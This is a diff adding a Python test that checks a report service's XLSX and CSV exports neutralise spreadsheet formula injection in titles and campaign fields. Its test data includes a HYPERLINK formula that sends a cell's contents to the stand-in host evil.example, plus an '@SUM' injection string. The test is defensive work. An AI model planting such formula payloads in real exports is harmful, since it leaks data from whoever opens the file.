@@ -161,6 +161,42 @@ async def test_xlsx_report_has_summary_trend_chart_campaigns_and_breakdown(
     assert "Spend per day (EUR)" in chart
 
 
+EVIL_TITLE = '=HYPERLINK("http://evil.example/?x="&A2,"Click")'
+
+
+async def test_text_we_did_not_compute_is_never_a_formula(metrics_service: MetricsService) -> None:
+    """The title (the requester's) and campaign ids and names (the platforms') are text in both spreadsheet
+    formats: typed as strings in Excel, quoted in CSV."""
+    await seed(metrics_service)
+    await metrics_service.publish(fetched(ORG, ACCOUNT, [row("@SUM(1+1)", FIRST, 1)]))
+    await metrics_service.settled()
+    xlsx = await finished(
+        metrics_service, (await request_report(metrics_service, format="xlsx", title=EVIL_TITLE))["id"]
+    )
+    book = openpyxl.load_workbook(io.BytesIO((await download(metrics_service, xlsx))[0]))
+    title = book["Summary"]["A1"]
+    assert (title.value, title.data_type) == (EVIL_TITLE, "s")
+    formulas = [
+        (sheet.title, cell.coordinate)
+        for sheet in book.worksheets
+        for line in sheet.iter_rows()
+        for cell in line
+        if cell.data_type == "f"
+    ]
+    assert formulas == []
+    ids = [r[5].value for r in book["Breakdown"].iter_rows(min_row=2)]
+    assert "@SUM(1+1)" in ids
+
+    csv_report = await finished(
+        metrics_service, (await request_report(metrics_service, format="csv", title=EVIL_TITLE))["id"]
+    )
+    data, response_headers = await download(metrics_service, csv_report)
+    assert 'filename="hyperlink-http-evil-example-x-a2-click' in response_headers["content-disposition"]
+    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
+    assert "'@SUM(1+1)" in {r["campaign_id"] for r in rows}
+    assert '\'=HYPERLINK("x")' in {r["campaign_name"] for r in rows}
+
+
 async def test_pdf_report_text_has_summary_chart_and_top_campaigns(metrics_service: MetricsService) -> None:
     await seed(metrics_service)
     report = await finished(
